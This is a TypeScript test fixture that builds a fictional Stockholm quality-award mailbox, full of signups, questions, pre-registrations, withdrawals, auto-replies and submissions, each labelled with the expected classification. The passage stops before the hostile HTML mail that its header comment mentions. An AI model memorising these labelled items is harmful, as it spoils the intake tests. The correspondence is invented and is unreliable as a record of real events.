// The shared mailbox's content for the cycle so far (February–June): info-meeting signups,
// pre-registrations in many wordings, questions and answers, withdrawals, submissions with generated
// .docx/.pdf files (one over the limit, one late, one missing questions, one split, one .doc), board
// protocols as PDF, auto-replies, newsletters and a hostile HTML mail. Every inbox mail carries a label
// (kind, units, traits) so intake tests know the right answer.
import type * as MG from '@microsoft/microsoft-graph-types';
import { formatShortDate } from '../../core/format.js';
import { buildApplication, type ApplicationOptions } from './application-text.js';
import {
  DOCX_CONTENT_TYPE,
  PDF_CONTENT_TYPE,
  makeDocx,
  makePdf,
  type DocxParagraph,
} from './documents.js';
import { legacyDoc } from './bad-documents.js';
import { prng } from './ids.js';
import {
  buildMessage,
  type Addr,
  type LabelledSeedMessage,
  type MailLabelKind,
  type MailSpec,
} from './message.js';
import { ORGANISATIONS, type SeedOrganisation } from './organisations.js';
import { COORDINATORS, SECRETARIES, SHARED_MAILBOX, upnOf, type Person } from './people.js';
import type { SeedAttachment } from './types.js';
import { addressLine, type SeedUnit } from './units.js';

export const ARCHIVE_FOLDER = (year: number) => `Kvalitetsutmärkelsen ${year - 1}`;

export const MASTER_CATEGORIES: MG.OutlookCategory[] = [
  { displayName: 'Intresseanmälan', color: 'preset4' },
  { displayName: 'Bidrag', color: 'preset7' },
  { displayName: 'Protokoll', color: 'preset8' },
  { displayName: 'Avanmälan', color: 'preset1' },
  { displayName: 'Fråga', color: 'preset3' },
  { displayName: 'Informationsmöte', color: 'preset9' },
  { displayName: 'Att granska', color: 'preset0' },
];

/** A 1×1 PNG, used as an inline signature logo. */
const LOGO_PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const MANAGER_TITLE: Record<SeedUnit['classId'], string> = {
  forskola: 'Förskolechef',
  skola: 'Rektor',
  aldreomsorg: 'Enhetschef',
  socialtjanst: 'Enhetschef',
  andra: 'Avdelningschef',
};

export interface MailboxContext {
  year: number;
  units: SeedUnit[];
}

export interface SharedMailboxContent {
  childFolders: string[];
  messages: LabelledSeedMessage[];
  masterCategories: MG.OutlookCategory[];
}

export async function buildSharedMailbox(ctx: MailboxContext): Promise<SharedMailboxContent> {
  const { year } = ctx;
  const yy = String(year).slice(2);
  const random = prng(`shared-mailbox|${year}`);
  const byKey = new Map(ctx.units.map((u) => [u.key, u]));
  const u = (key: string): SeedUnit => {
    const unit = byKey.get(key);
    if (!unit) throw new RangeError(`Unknown unit ${key}`);
    return unit;
  };
  const org = (unit: SeedUnit): SeedOrganisation =>
    ORGANISATIONS.find((o) => o.id === unit.organisationId)!;
  const d = (mmdd: string, time: string) => `${year}-${mmdd}T${time}`;
  const shared: Addr = { name: 'Kvalitetsutmärkelsen', address: SHARED_MAILBOX };
  const manager = (unit: SeedUnit): Addr => ({
    name: unit.managerName,
    address: unit.managerEmail,
  });
  const person = (p: Person): Addr => ({
    name: `${p.given} ${p.surname}`,
    address: upnOf(p.given, p.surname),
  });
  const secretary = (orgKey: string): Person => SECRETARIES[orgKey]!;
  const [maria, johan, amina] = COORDINATORS as [Person, Person, Person];
  const coordinatorSig = (p: Person) =>
    `Med vänlig hälsning\n${p.given} ${p.surname}\n${p.jobTitle}\nStadsledningskontoret\nkvalitetsutmarkelsen@stockholm.example`;
  const sig = (unit: SeedUnit, short = false) =>
    short
      ? `Hälsningar\n${unit.managerName}`
      : `Med vänliga hälsningar\n\n${unit.managerName}\n${MANAGER_TITLE[unit.classId]}\n${unit.name}\n${org(unit).name}\nTelefon ${unit.managerPhone}\n${unit.managerEmail}`;
  const label = (kind: MailLabelKind, units: SeedUnit[], ...tags: string[]) => ({
    kind,
    unitIds: units.map((x) => x.id),
    tags,
  });

  const specs: MailSpec[] = [];
  const add = (spec: MailSpec) =>
    specs.push({
      isRead: spec.isRead ?? (spec.folder === 'sentitems' ? true : random.chance(0.8)),
      ...spec,
    });

  // --- documents ---------------------------------------------------------------------------------------
  const attachment = (name: string, bytes: Buffer, contentType: string): SeedAttachment => ({
    name,
    contentType,
    contentBytes: bytes.toString('base64'),
  });
  const application = async (
    unit: SeedUnit,
    format: 'docx' | 'pdf',
    name: string,
    options: Partial<ApplicationOptions> = {},
  ): Promise<SeedAttachment> => {
    const target = options.targetNonSpaceChars ?? random.int(28_000, 72_000);
    const app = buildApplication({
      unit: applicationUnit(unit),
      year,
      ...options,
      targetNonSpaceChars: target,
    });
    const meta = { title: `Kvalitetsutmärkelsen ${year} – ${unit.name}`, author: unit.managerName };
    return format === 'docx'
      ? attachment(name, await makeDocx(app.paragraphs, meta), DOCX_CONTENT_TYPE)
      : attachment(name, await makePdf(app.paragraphs, meta), PDF_CONTENT_TYPE);
  };

  // --- newsletters and other --------------------------------------------------------------------------
  add({
    key: 'newsletter-feb',
    from: { name: 'Kvalitetsnätverket', address: 'nyhetsbrev@kvalitetsnatverket.example' },
    to: [shared],
    subject: `Nyhetsbrev februari ${year}: Tema tillitsbaserad styrning`,
    text:
      'Nyhetsbrev från Kvalitetsnätverket\n\n' +
      'I det här numret: tillitsbaserad styrning i praktiken, årets kvalitetskonferens i Göteborg och tre nya rapporter om brukarundersökningar.\n\n' +
      'Anmäl dig till vårt webbinarium den 12 mars om systematiskt kvalitetsarbete i kommuner.\n\n' +
      'Du får det här nyhetsbrevet eftersom du prenumererar på Kvalitetsnätverkets utskick. Avsluta prenumerationen: https://kvalitetsnatverket.example/avsluta',
    sent: d('02-03', '06:30:00'),
    importance: 'low',
    headers: [
      {
        name: 'List-Unsubscribe',
        value:
          '<https://kvalitetsnatverket.example/avsluta?id=8812>, <mailto:avsluta@kvalitetsnatverket.example>',
      },
      {
        name: 'List-Id',
        value: 'Kvalitetsnätverkets nyhetsbrev <nyhetsbrev.kvalitetsnatverket.example>',
      },
      { name: 'Precedence', value: 'bulk' },
    ],
    label: label('other', [], 'newsletter'),
  });

  // --- info-meeting signups -----------------------------------------------------------------------------
  add({
    key: 'signup-ekorren',
    from: manager(u('ekorren')),
    to: [shared],
    subject: 'Anmälan till informationsmöte 17 februari',
    text: `Hej!\n\nJag vill anmäla mig och min biträdande förskolechef Sara Lind till informationsmötet den 17 februari kl. 9.00 på Teams.\n\n${sig(u('ekorren'))}`,
    sent: d('02-04', '08:12:40'),
    label: label('info-meeting-signup', [u('ekorren')]),
  });
  add({
    key: 'signup-larkan',
    from: manager(u('larkan')),
    to: [shared],
    subject: 'Sign-up: information meeting on 19 February',
    text: `Hello,\n\nI would like to sign up for the information meeting on 19 February at Stadshuset. Two of us will attend: myself and our quality coordinator.\n\nBest regards,\nEmma Forsberg\nHead of preschool, ${u('larkan').name}`,
    sent: d('02-09', '16:45:03'),
    label: label('info-meeting-signup', [u('larkan')], 'english'),
  });
  add({
    key: 'signup-regnbagen',
    from: manager(u('regnbagen')),
    to: [shared],
    subject: 'Informationsträff 3 mars',
    text: `Hej,\nvi är tre personer från ${u('regnbagen').name} som vill komma på informationsträffen den 3 mars. Skicka gärna Teamslänken till mig.\n\n${sig(u('regnbagen'), true)}`,
    sent: d('02-20', '10:03:27'),
    format: 'text',
    label: label('info-meeting-signup', [u('regnbagen')]),
  });
  add({
    key: 'signup-kontaktcenter',
    from: manager(u('kontaktcenter')),
    to: [shared],
    subject: 'Anmälan infomöte 10/3',
    text: `Hej!\n\nVi blir tre från Kontaktcenter Stockholm som kommer till informationsmötet i Stadshuset den 10 mars: jag, Per Alm och Fredrika Holm. Finns det kaffe? :)\n\n${sig(u('kontaktcenter'))}`,
    sent: d('02-24', '13:30:51'),
    label: label('info-meeting-signup', [u('kontaktcenter')]),
  });

  // --- questions with answers (one reply chain) ---------------------------------------------------------
  add({
    key: 'question-characters',
    from: manager(u('ekorren')),
    to: [shared],
    subject: 'Fråga om antal tecken',
    text: `Hej!\n\nEn fråga inför vårt bidrag: räknas frågorna och rubrikerna in i de 85 000 tecknen, eller bara våra svar? Och räknas blanksteg?\n\nTack på förhand!\n\n${sig(u('ekorren'))}`,
    sent: d('02-23', '14:22:10'),
    label: label('question', [u('ekorren')]),
  });
  add({
    key: 'reply-characters',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('ekorren'))],
    subject: 'SV: Fråga om antal tecken',
    text: `Hej Anna!\n\nAllt som står i bidraget räknas, även frågorna och rubrikerna, men inte blanksteg. Det motsvarar "Tecken (utan blanksteg)" under Ordräkning i Word. Max 85 000.\n\n${coordinatorSig(maria)}`,
    sent: d('02-24', '09:05:00'),
    thread: 'question-characters',
    inReplyTo: 'question-characters',
  });
  add({
    key: 'question-characters-followup',
    from: manager(u('ekorren')),
    to: [shared],
    subject: 'SV: Fråga om antal tecken',
    text:
      `Tack för snabbt svar! En följdfråga: kan vi lägga till en ordlista som bilaga utan att den räknas?\n\n${sig(u('ekorren'), true)}\n\n` +
      `Från: Kvalitetsutmärkelsen <${SHARED_MAILBOX}>\nSkickat: den 24 februari ${year} 09:05\nTill: ${u('ekorren').managerName} <${u('ekorren').managerEmail}>\nÄmne: SV: Fråga om antal tecken\n\n` +
      `Hej Anna!\n\nAllt som står i bidraget räknas, även frågorna och rubrikerna, men inte blanksteg. Det motsvarar "Tecken (utan blanksteg)" under Ordräkning i Word. Max 85 000.\n\n` +
      `Från: ${u('ekorren').managerName}\nSkickat: den 23 februari ${year} 14:22\nÄmne: Fråga om antal tecken\n\nEn fråga inför vårt bidrag: räknas frågorna och rubrikerna in i de 85 000 tecknen?`,
    sent: d('02-24', '10:41:33'),
    thread: 'question-characters',
    inReplyTo: 'reply-characters',
    label: label('question', [u('ekorren')], 'reply-chain'),
  });
  add({
    key: 'question-pdf',
    from: manager(u('stjarnhus')),
    to: [shared],
    subject: 'Format på bidraget',
    text: `Hej,\n\nKan vi skicka in vårt bidrag som PDF i stället för Word? Vi har lagt in några diagram som vi vill ska se likadana ut.\n\n${sig(u('stjarnhus'))}`,
    sent: d('03-05', '11:17:45'),
    label: label('question', [u('stjarnhus')]),
  });
  add({
    key: 'reply-pdf',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('stjarnhus'))],
    subject: 'SV: Format på bidraget',
    text: `Hej Johan,\n\nJa, både Word (.docx) och PDF går bra. Tänk på att diagrammen inte räknas som text, men förklara gärna resultaten i löptext.\n\n${coordinatorSig(johan)}`,
    sent: d('03-06', '08:44:00'),
    thread: 'question-pdf',
    inReplyTo: 'question-pdf',
  });
  add({
    key: 'question-small-unit',
    from: manager(u('vintergatan')),
    to: [shared],
    subject: 'Kan vi delta?',
    text: `Hej!\n\nVi är en liten träffpunkt för äldre på Östermalm, fyra medarbetare inklusive mig. Kan vi vara med i Kvalitetsutmärkelsen ändå? Vi gör mycket bra saker!\n\n${sig(u('vintergatan'))}`,
    sent: d('03-12', '15:02:19'),
    label: label('question', [u('vintergatan')]),
  });
  add({
    key: 'reply-small-unit',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('vintergatan'))],
    subject: 'SV: Kan vi delta?',
    text: `Hej Gunilla!\n\nTack för ert intresse! Enheten behöver bestå av minst fem medarbetare inklusive chef för att kunna delta, så tyvärr inte i år. Hör gärna av er om ni växer.\n\n${coordinatorSig(amina)}`,
    sent: d('03-13', '10:20:00'),
    thread: 'question-small-unit',
    inReplyTo: 'question-small-unit',
  });
  add({
    key: 'question-eligibility-en',
    from: manager(u('kunskapsbron')),
    to: [shared],
    subject: 'Question about eligibility for independent schools',
    text: `Hi,\n\nWe are an independent school (Friskolan Kunskapsbron) and about 88 percent of our pupils live in Stockholm. Are we allowed to take part in the Quality Award, and who in the city should approve our participation?\n\nThanks,\nSara Jönsson\nPrincipal`,
    sent: d('03-16', '19:48:02'),
    label: label('question', [u('kunskapsbron')], 'english'),
  });
  add({
    key: 'question-appendix',
    from: manager(u('ekhagen')),
    to: [shared],
    subject: 'Bilagor',
    text: `Hej!\nFår vi bifoga vår verksamhetsplan som bilaga till bidraget, och räknas den i så fall in i teckenantalet?\nMvh Lars Ekström, Ekhagens vård- och omsorgsboende`,
    sent: d('04-22', '13:55:36'),
    format: 'text',
    label: label('question', [u('ekhagen')]),
  });
  add({
    key: 'question-staff',
    from: manager(u('nytorget')),
    to: [shared],
    subject: 'Antal anställda – hur räknar vi?',
    text: `Hej,\n\nI de administrativa uppgifterna ska vi ange antal anställda i maj. Ska timanställda räknas, och i så fall hur?\n\n${sig(u('nytorget'))}`,
    sent: d('05-06', '09:12:08'),
    label: label('question', [u('nytorget')]),
  });
  add({
    key: 'question-sunday',
    from: manager(u('hemtjanst-skarholmen')),
    to: [shared],
    subject: 'Brådskande: går det bra att skicka på söndag kväll?',
    text: `Hej! Sista dagen är ju en söndag. Går det bra att mejla bidraget på söndag kväll, och när exakt stänger det?\n\n${sig(u('hemtjanst-skarholmen'), true)}`,
    sent: d('05-13', '21:07:44'),
    importance: 'high',
    label: label('question', [u('hemtjanst-skarholmen')]),
  });

  // --- pre-registrations ----------------------------------------------------------------------------------
  const prereg = (
    key: string,
    unit: SeedUnit,
    sent: string,
    subject: string,
    text: string,
    tags: string[] = [],
    extra: Partial<MailSpec> = {},
  ) =>
    add({
      key: `prereg-${key}`,
      from: manager(unit),
      to: [shared],
      subject,
      text,
      sent,
      label: label('pre-registration', [unit], ...tags),
      ...extra,
    });

  prereg(
    'ekorren',
    u('ekorren'),
    d('02-26', '08:31:12'),
    `Intresseanmälan Kvalitetsutmärkelsen ${year} – Förskolan Ekorren`,
    `Hej!\n\nVi på Förskolan Ekorren i Skärholmen vill härmed anmäla vårt intresse att delta i Stockholms stads kvalitetsutmärkelse ${year}. Vi var med förra året och fick mycket ut av återföringen.\n\n${sig(u('ekorren'))}`,
  );
  prereg(
    'solrosen',
    u('solrosen'),
    d('03-02', '12:10:55'),
    'Intresseanmälan förskolan Solrsen',
    `Hej! Förskolan Solrsen i Hägersten vill delta i kvalitetsutmärkelsen ${year}. Vi var på informationsmötet och är väldigt taggade!\nMvh Maria Öberg, förskolechef`,
    ['typo'],
    { format: 'text' },
  );
  prereg(
    'arstaskogen',
    u('arstaskogen'),
    d('03-09', '14:47:20'),
    'Förhandsanmälan',
    `Hej,\n\nHärmed förhandsanmäler vi ${u('arstaskogen').name} till Kvalitetsutmärkelsen ${year}. Vi är ${u('arstaskogen').staffCount} medarbetare och beslutet är förankrat i ledningsgruppen.\n\n${sig(u('arstaskogen'))}`,
  );
  prereg(
    'larkan',
    u('larkan'),
    d('03-10', '17:22:04'),
    `Pre-registration – Stockholm Quality Award ${year}`,
    `Dear Quality Award team,\n\nMontessoriförskolan Lärkan would like to pre-register for the City of Stockholm's Quality Award ${year}. We are an independent preschool with ${u('larkan').staffCount} staff, and 94 % of our children live in Stockholm.\n\nKind regards,\nEmma Forsberg\nHead of preschool\n${u('larkan').managerPhone}`,
    ['english'],
  );
  prereg(
    'myrstacken',
    u('myrstacken'),
    d('03-11', '20:05:31'),
    'Anmälan kvalitetsutmärkelsen',
    `Hej!\nVi på Föräldrakooperativet Myrstacken vill gärna vara med i år. Vi är fyra pedagoger inklusive mig, och föräldrarna sköter städning och matlagning.\nHälsningar Ida Sandberg, förskolechef`,
    [],
    { format: 'text' },
  );
  prereg(
    'kastanjen',
    u('kastanjen'),
    d('03-12', '07:58:09'),
    `Anmälan Kvalitetsutmärkelsen ${year} - Förskolan Kastanjen`,
    '',
    ['empty-body'],
    { format: 'text' },
  );
  prereg(
    'humlegarden',
    u('humlegarden'),
    d('03-02', '09:40:00'),
    `Intresseanmälan ${year}`,
    `Hej!\n\nFörskolan Humlegården vann ju Kvalitetsutmärkelsen förra året, men vi vill gärna delta igen i år och visa hur vi har utvecklats sedan dess. Vi anmäler därför vårt intresse.\n\n${sig(u('humlegarden'))}`,
    ['previous-winner'],
  );
  add({
    key: 'reply-humlegarden',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('humlegarden'))],
    subject: `SV: Intresseanmälan ${year}`,
    text: `Hej Cecilia!\n\nStort grattis igen till utmärkelsen förra året! Enheter som har vunnit kan inte delta de närmaste två åren, så ni är varmt välkomna tillbaka ${year + 2}. Hör gärna av er om ni vill dela era goda exempel på Kvalitetsdagen.\n\n${coordinatorSig(maria)}`,
    sent: d('03-03', '11:02:00'),
    thread: 'prereg-humlegarden',
    inReplyTo: 'prereg-humlegarden',
  });
  prereg(
    'regnbagen',
    u('regnbagen'),
    d('03-04', '10:15:42'),
    'Vi vill vara med!',
    `Hejsan!\nVi skulle gärna vilja vara med i årets kvalitetsutmärkelse. Jag anmäler härmed ${u('regnbagen').name} i Rinkeby. Kontaktperson är jag.\n/Leila`,
    [],
    { format: 'text' },
  );
  add({
    key: 'prereg-appelgarden',
    from: { name: 'Anna Karlsson', address: 'anna.karlsson72@mejl.example' },
    to: [shared],
    subject: 'anmälan',
    text: `Hej! Jag jobbar som förskollärare på Förskolan Äppelgården i Bromma och skriver på uppdrag av vår förskolechef Jenny Holmgren som är på kurs idag. Vi vill anmäla intresse för Kvalitetsutmärkelsen ${year}.\n\nSkickat från min iPhone`,
    sent: d('03-17', '12:31:18'),
    format: 'text',
    label: label('pre-registration', [u('appelgarden')], 'unknown-sender'),
  });
  add({
    key: 'prereg-utbildning-list',
    from: person(secretary('utbildning')),
    to: [shared],
    subject: `Intresseanmälningar från Utbildningsförvaltningen ${year}`,
    text:
      `Hej!\n\nFöljande skolor inom Utbildningsförvaltningen vill delta i Kvalitetsutmärkelsen ${year}:\n\n` +
      ['stjarnhus', 'lindhagen', 'tenstadalen', 'hammarbyhojden']
        .map((k) => `- ${u(k).name}, rektor ${u(k).managerName} (${u(k).managerEmail})`)
        .join('\n') +
      `\n\nDeltagandet anmäls i utbildningsnämnden i juni.\n\nMed vänlig hälsning\nChristina Wahlberg\nKvalitetsstrateg, Utbildningsförvaltningen`,
    sent: d('03-13', '15:26:50'),
    label: label(
      'pre-registration',
      ['stjarnhus', 'lindhagen', 'tenstadalen', 'hammarbyhojden'].map(u),
      'several-units',
      'administration',
    ),
  });
  add({
    key: 'prereg-norradjurgarden-fwd',
    from: person(secretary('utbildning')),
    to: [shared],
    subject: 'VB: Anmälan Kvalitetsutmärkelsen',
    text:
      `Hej!\nVidarebefordrar en intresseanmälan som kom till vår funktionsbrevlåda.\n\nHälsningar\nChristina Wahlberg\nKvalitetsstrateg, Utbildningsförvaltningen\n\n` +
      `________________________________\nFrån: ${u('norradjurgarden').managerName} <${u('norradjurgarden').managerEmail}>\nSkickat: den 16 mars ${year} 14:03\n` +
      `Till: Utbildningsförvaltningen kvalitet <kvalitet.utbildning@stockholm.example>\nÄmne: Anmälan Kvalitetsutmärkelsen\n\n` +
      `Hej,\nNorra Djurgårdens gymnasium önskar delta i Kvalitetsutmärkelsen ${year}. Vi har ${u('norradjurgarden').staffCount} anställda och har arbetat systematiskt med elevinflytande de senaste åren.\n\n` +
      `Katarina von Essen\nRektor, Norra Djurgårdens gymnasium\n${u('norradjurgarden').managerPhone}`,
    sent: d('03-17', '08:02:11'),
    label: label('pre-registration', [u('norradjurgarden')], 'forwarded'),
  });
  prereg(
    'montessoriskolan',
    u('montessoriskolan'),
    d('03-18', '16:40:27'),
    'Registration of interest – Quality Award',
    `Hello,\n\nMontessoriskolan Kristallen would like to register its interest in the Quality Award ${year}. We are an independent school; about 45 percent of our pupils come from Stockholm and the rest from Solna and Sundbyberg. Please let us know if we can take part.\n\nBest wishes,\nHenrik Dahl\nPrincipal`,
    ['english'],
  );
  prereg(
    'nytorget',
    u('nytorget'),
    d('03-05', '13:03:33'),
    `Intresseanmälan – ${u('nytorget').name}`,
    `Hej!\n\nNytorgets vård- och omsorgsboende anmäler härmed intresse för att delta i Kvalitetsutmärkelsen ${year}. Vi har ${u('nytorget').staffCount} medarbetare och har en budget i balans.\n\n${sig(u('nytorget'))}`,
    [],
    {
      htmlExtra:
        '<div><img src="cid:logo-nytorget" alt="Stockholms stad" width="120" height="40"></div>',
      attachments: [
        { name: 'image001.png', contentType: 'image/png', contentBytes: LOGO_PNG, isInline: true },
      ],
    },
  );
  prereg(
    'hemtjanst-skarholmen',
    u('hemtjanst-skarholmen'),
    d('03-19', '22:14:05'),
    'Anmälan till Kvalitetsutmärkelsen',
    `Hej,\nHemtjänsten Skärholmen centrum vill anmäla sig till Kvalitetsutmärkelsen ${year}. Vi har pratat om det länge och nu gör vi det!\n\n${sig(u('hemtjanst-skarholmen'))}`,
  );
  add({
    key: 'prereg-farsta-list',
    from: person(secretary('farsta')),
    to: [shared],
    cc: [manager(u('solangen')), manager(u('tranbar')), manager(u('familjeenheten-farsta'))],
    subject: `Farsta stadsdelsförvaltning – anmälan till Kvalitetsutmärkelsen ${year}`,
    text:
      `Hej!\n\nFarsta stadsdelsförvaltning anmäler följande tre enheter till Kvalitetsutmärkelsen ${year}:\n\n` +
      `1. ${u('solangen').name} (enhetschef ${u('solangen').managerName})\n2. ${u('tranbar').name} (enhetschef ${u('tranbar').managerName})\n3. ${u('familjeenheten-farsta').name} (enhetschef ${u('familjeenheten-farsta').managerName})\n\n` +
      `Cheferna står på kopia.\n\nVänliga hälsningar\nKerstin Alm\nKvalitetsutvecklare, Farsta stadsdelsförvaltning`,
    sent: d('03-16', '10:09:48'),
    label: label(
      'pre-registration',
      ['solangen', 'tranbar', 'familjeenheten-farsta'].map(u),
      'several-units',
      'administration',
    ),
  });
  prereg(
    'ekhagen',
    u('ekhagen'),
    d('03-06', '09:27:14'),
    `Ekhagen anmäler intresse ${year}`,
    `Hej!\n\nVi fick Kvalitetsutmärkelsen för några år sedan och vill nu pröva igen. Ekhagens vård- och omsorgsboende anmäler härmed sitt intresse.\n\n${sig(u('ekhagen'))}`,
  );
  prereg(
    'barnungdom-sodermalm',
    u('barnungdom-sodermalm'),
    d('02-27', '11:45:39'),
    'Intresseanmälan Barn- och ungdomsenheten',
    `Hej,\n\nBarn- och ungdomsenheten på Södermalm vill delta i Kvalitetsutmärkelsen ${year}. Vi har förankrat beslutet med avdelningschefen.\n\n${sig(u('barnungdom-sodermalm'))}`,
  );
  prereg(
    'fyrklovern',
    u('fyrklovern'),
    d('03-03', '15:36:02'),
    'Korttidshemmet Fyrklövern vill delta',
    `Hej!\nVi på Korttidshemmet Fyrklövern anmäler härmed intresse för att vara med i kvalitetsutmärkelsen i år.\n\n${sig(u('fyrklovern'))}`,
  );
  prereg(
    'atelje-bla',
    u('atelje-bla'),
    d('03-18', '09:01:26'),
    `Intresseanmälan KU ${year}`,
    `Hej,\n\nDaglig verksamhet Ateljé Blå i Skarpnäck anmäler sig till Kvalitetsutmärkelsen. Deltagarna har själva varit med och bestämt att vi ska söka!\n\n${sig(u('atelje-bla'))}`,
  );
  prereg(
    'kontaktcenter',
    u('kontaktcenter'),
    d('03-11', '12:12:12'),
    '',
    `Hej! Kontaktcenter Stockholm vill gärna delta i år igen. Vi anmäler oss härmed.\n\nMvh Linda`,
    ['no-subject'],
    {
      format: 'text',
    },
  );
  prereg(
    'kundservice-steriks',
    u('kundservice-steriks'),
    d('03-19', '14:28:47'),
    `Anmälan Kvalitetsutmärkelsen ${year} – Kundservice S:t Eriks Kommunservice`,
    `Hej,\n\nKundservice på S:t Eriks Kommunservice AB vill delta i Kvalitetsutmärkelsen ${year}. Styrelsen informeras i april och beslutar i juni.\n\n${sig(u('kundservice-steriks'))}`,
  );
  prereg(
    'park-hasselby',
    u('park-hasselby'),
    d('03-24', '08:03:55'),
    'Sen anmälan – Parkenheten',
    `Hej!\n\nFörlåt att vi är sena. Parkenheten i Hässelby-Vällingby vill också anmäla sig till Kvalitetsutmärkelsen ${year} om det fortfarande går. Vi missade sista dagen på grund av sjukdom.\n\n${sig(u('park-hasselby'))}`,
    ['late-pre-registration'],
  );
  prereg(
    'medborgarkontoret',
    u('medborgarkontoret'),
    d('03-20', '16:58:31'),
    `Intresseanmälan Medborgarkontoret Skarpnäck`,
    `Hej!\nMedborgarkontoret i Skarpnäck anmäler intresse för Kvalitetsutmärkelsen ${year}.\n\n${sig(u('medborgarkontoret'))}`,
  );

  // --- withdrawals ------------------------------------------------------------------------------------------
  add({
    key: 'withdrawal-familjeenheten',
    from: manager(u('familjeenheten-farsta')),
    to: [shared],
    cc: [person(secretary('farsta'))],
    subject: `Avanmälan Kvalitetsutmärkelsen ${year} – Familjeenheten Farsta`,
    text: `Hej,\n\nTyvärr måste vi dra tillbaka vår anmälan till Kvalitetsutmärkelsen ${year}. Vi har flera vakanser och kommer inte att hinna skriva ett bidrag med den kvalitet vi vill. Vi hoppas kunna delta nästa år.\n\n${sig(u('familjeenheten-farsta'))}`,
    sent: d('04-09', '10:44:18'),
    label: label('withdrawal', [u('familjeenheten-farsta')]),
  });
  add({
    key: 'reply-withdrawal-familjeenheten',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('familjeenheten-farsta'))],
    subject: `SV: Avanmälan Kvalitetsutmärkelsen ${year} – Familjeenheten Farsta`,
    text: `Hej Anders,\n\nTack för att du meddelar oss. Vi har noterat att Familjeenheten Farsta inte deltar i år. Välkomna tillbaka nästa år!\n\n${coordinatorSig(amina)}`,
    sent: d('04-10', '08:15:00'),
    thread: 'withdrawal-familjeenheten',
    inReplyTo: 'withdrawal-familjeenheten',
  });
  add({
    key: 'withdrawal-medborgarkontoret',
    from: manager(u('medborgarkontoret')),
    to: [shared],
    subject: 'Angående vårt deltagande',
    text: `Hej!\n\nVi står inför en omorganisation under våren och har tyvärr inte möjlighet att delta i Kvalitetsutmärkelsen i år. Stryk oss gärna från listan.\n\nTack för ett bra informationsmöte!\n\n${sig(u('medborgarkontoret'))}`,
    sent: d('04-28', '14:09:50'),
    label: label('withdrawal', [u('medborgarkontoret')]),
  });

  // --- reminder and auto-replies -----------------------------------------------------------------------------
  const reminded = [
    'ekorren',
    'solrosen',
    'arstaskogen',
    'regnbagen',
    'ekhagen',
    'kundservice-steriks',
    'nytorget',
    'atelje-bla',
    'park-hasselby',
  ].map(u);
  add({
    key: 'reminder-submission',
    folder: 'sentitems',
    from: shared,
    to: [shared],
    bcc: reminded.map(manager),
    subject: `Påminnelse: tävlingsbidrag senast 17 maj kl. 24.00`,
    text: `Hej!\n\nEn påminnelse om att tävlingsbidragen till Kvalitetsutmärkelsen ${year} ska skickas till ${SHARED_MAILBOX} senast den 17 maj kl. 24.00. Bidraget får vara högst 85 000 tecken exklusive blanksteg och ska besvara alla 24 frågor.\n\n${coordinatorSig(johan)}`,
    sent: d('05-11', '08:00:00'),
  });
  add({
    key: 'ooo-ekhagen',
    from: manager(u('ekhagen')),
    to: [shared],
    subject: 'Automatiskt svar: Påminnelse: tävlingsbidrag senast 17 maj kl. 24.00',
    text: `Tack för ditt mejl. Jag är på semester till och med den 15 maj och läser inte min e-post. Vid brådskande ärenden, kontakta biträdande enhetschef Eva Lund på 070-174 06 98.\n\nLars Ekström`,
    sent: d('05-11', '08:00:06'),
    thread: 'reminder-submission',
    headers: [
      { name: 'Auto-Submitted', value: 'auto-replied' },
      { name: 'X-Auto-Response-Suppress', value: 'All' },
      { name: 'X-MS-Exchange-Inbox-Rules-Loop', value: u('ekhagen').managerEmail },
    ],
    label: label('auto-reply', [u('ekhagen')], 'out-of-office'),
  });
  add({
    key: 'ooo-steriks',
    from: manager(u('kundservice-steriks')),
    to: [shared],
    subject: 'Automatic reply: Påminnelse: tävlingsbidrag senast 17 maj kl. 24.00',
    text: `Hej! Jag är på utbildning 11–12 maj med begränsad tillgång till e-post. / I am attending a training course 11–12 May with limited access to e-mail.\n\nCaroline Wester`,
    sent: d('05-11', '08:00:09'),
    thread: 'reminder-submission',
    headers: [
      { name: 'Auto-Submitted', value: 'auto-generated' },
      { name: 'X-Auto-Response-Suppress', value: 'All' },
    ],
    label: label('auto-reply', [u('kundservice-steriks')], 'out-of-office', 'english'),
  });

  // --- submissions -------------------------------------------------------------------------------------------
  const submit = async (
    key: string,
    unit: SeedUnit,
    sent: string,
    subject: string,
    text: string,
    files: SeedAttachment[],
    tags: string[] = [],
    extra: Partial<MailSpec> = {},
  ) =>
    add({
      key: `submission-${key}`,
      from: manager(unit),
      to: [shared],
      subject,
      text,
      sent,
      attachments: files,
      label: label('submission', [unit], ...tags),
      ...extra,
    });

  await submit(
    'ekorren',
    u('ekorren'),
    d('05-14', '15:22:08'),
    `Tävlingsbidrag Kvalitetsutmärkelsen ${year} – Förskolan Ekorren`,
    `Hej!\n\nHär kommer Förskolan Ekorrens tävlingsbidrag till Kvalitetsutmärkelsen ${year}. Bidraget är bifogat som Word-fil.\n\n${sig(u('ekorren'))}`,
    [await application(u('ekorren'), 'docx', `Tävlingsbidrag Förskolan Ekorren ${year}.docx`)],
  );
  await submit(
    'solrosen',
    u('solrosen'),
    d('05-16', '10:48:51'),
    'Bidrag Förskolan Solrosen',
    `Hej,\nBifogar vårt bidrag som PDF. Tacksam för en bekräftelse på att det kommit fram.\n\n${sig(u('solrosen'), true)}`,
    [await application(u('solrosen'), 'pdf', `Bidrag KU${yy} Förskolan Solrosen.pdf`)],
    [],
    { format: 'text' },
  );
  await submit(
    'arstaskogen-v1',
    u('arstaskogen'),
    d('05-12', '16:05:37'),
    `Tävlingsbidrag ${u('arstaskogen').name}`,
    `Hej!\n\nHär är vårt bidrag. Vi hade mycket att berätta!\n\n${sig(u('arstaskogen'))}`,
    [
      await application(u('arstaskogen'), 'docx', `Tävlingsbidrag Årstaskogen ${year}.docx`, {
        targetNonSpaceChars: 86_420,
      }),
    ],
    ['over-limit'],
  );
  add({
    key: 'reply-arstaskogen',
    folder: 'sentitems',
    from: shared,
    to: [manager(u('arstaskogen'))],
    subject: `SV: Tävlingsbidrag ${u('arstaskogen').name}`,
